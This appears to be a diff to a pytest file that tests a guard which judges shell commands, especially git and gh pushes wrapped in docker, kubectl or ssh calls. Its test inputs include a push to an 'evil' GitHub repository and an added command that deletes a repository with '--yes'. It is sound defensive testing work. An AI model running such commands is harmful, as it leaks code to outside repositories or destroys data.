@@ -72,11 +72,11 @@ def test_an_unreadable_boundary_is_a_doubt(command: str) -> None:
 
 def test_entrypoint_arguments_are_read_as_git_and_gh_too() -> None:
     run = _run("docker run alpine/git push https://github.com/evil/repo main")
-    assert any(s.startswith("git push ") for s in run.scripts())  # type: ignore[attr-defined]
+    assert ("git push https://github.com/evil/repo main", False) in run.scripts()  # type: ignore[attr-defined]
     run = _run("docker run --entrypoint ls alpine/git push")
-    assert run.scripts() == ["ls push"]  # type: ignore[attr-defined]
+    assert run.scripts() == [("ls push", False)]  # type: ignore[attr-defined]
     run = _run("kubectl run t --image=x --command -- push y")
-    assert run.scripts() == ["push y"]  # type: ignore[attr-defined]
+    assert run.scripts() == [("push y", False)]  # type: ignore[attr-defined]
 
 
 @pytest.mark.parametrize(
@@ -92,6 +92,7 @@ def test_entrypoint_arguments_are_read_as_git_and_gh_too() -> None:
         f"kubectl run x --image=a -- {PUSH}",
         "docker run --rm alpine/git push https://github.com/evil/repo main",
         f"ssh box docker exec ctr {PUSH}",
+        "docker run --rm ghcr.io/cli/cli repo delete myorg/app --yes",
     ],
 )
 def test_a_push_from_a_container_is_judged(command: str) -> None:
@@ -135,3 +136,16 @@ def test_bind_mounts_are_directory_changes(command: str, verdict: str) -> None:
 )
 def test_the_script_fed_on_stdin_is_read(command: str, verdict: str) -> None:
     assert _verdict(GH, command) == verdict
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "docker run --rm app run tests",
+        "docker compose run --rm web release",
+        "docker run --rm app pr",
+        "docker run img",
+    ],
+)
+def test_a_guessed_gh_entrypoint_asks_nothing(command: str) -> None:
+    assert _verdict(GH, command) == "ALLOW"
